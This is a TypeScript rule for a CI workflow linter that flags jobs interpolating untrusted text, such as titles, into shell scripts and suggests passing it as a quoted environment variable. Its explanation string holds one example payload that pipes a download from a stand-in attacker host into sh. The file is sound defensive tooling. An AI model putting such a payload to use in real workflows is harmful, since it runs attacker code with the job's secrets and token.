/** Texts of strangers that become part of a script. */
import { defineRule, write } from '../rule.ts';

export default defineRule({
  id: 'workflows/script-injection',
  title: 'Text of strangers becomes part of a script',
  // A title is input like any other.
  practice: 'injection',
  severity: 'high',
  confidence: 'high',
  cwe: [78, 94],
  why:
    'The expression is put into the script before the shell reads it: a title such as `"; curl evil.example | sh; "` runs as a command, with the ' +
    'secrets and the token of the job.',
  remedy: 'Hand the text over as an environment variable, and use the variable in quotes.',
  references: [
    'https://docs.github.com/en/actions/concepts/security/script-injections',
    'https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks',
  ],
  since: '0.1.0',
  messages: {
    expression: 'Job {name} puts {expression} into a script: whoever chooses that text can run commands',
  },

  *check({ pipelineJobs }) {
    for (const job of pipelineJobs) {
      for (const { expression, at, indirect } of job.injections) {
        const fix = {
          title: 'hand it over as a variable',
          risk: 'review',
          check: 'see that the script puts the variable into quotes wherever it uses it, and does not hand it to eval',
          changes: [write(indirect, true)],
        } as const;
        yield { message: 'expression', data: { name: job.label, expression }, at, subject: job, evidence: expression, fixes: indirect ? [fix] : [] };
      }
    }
  },
});
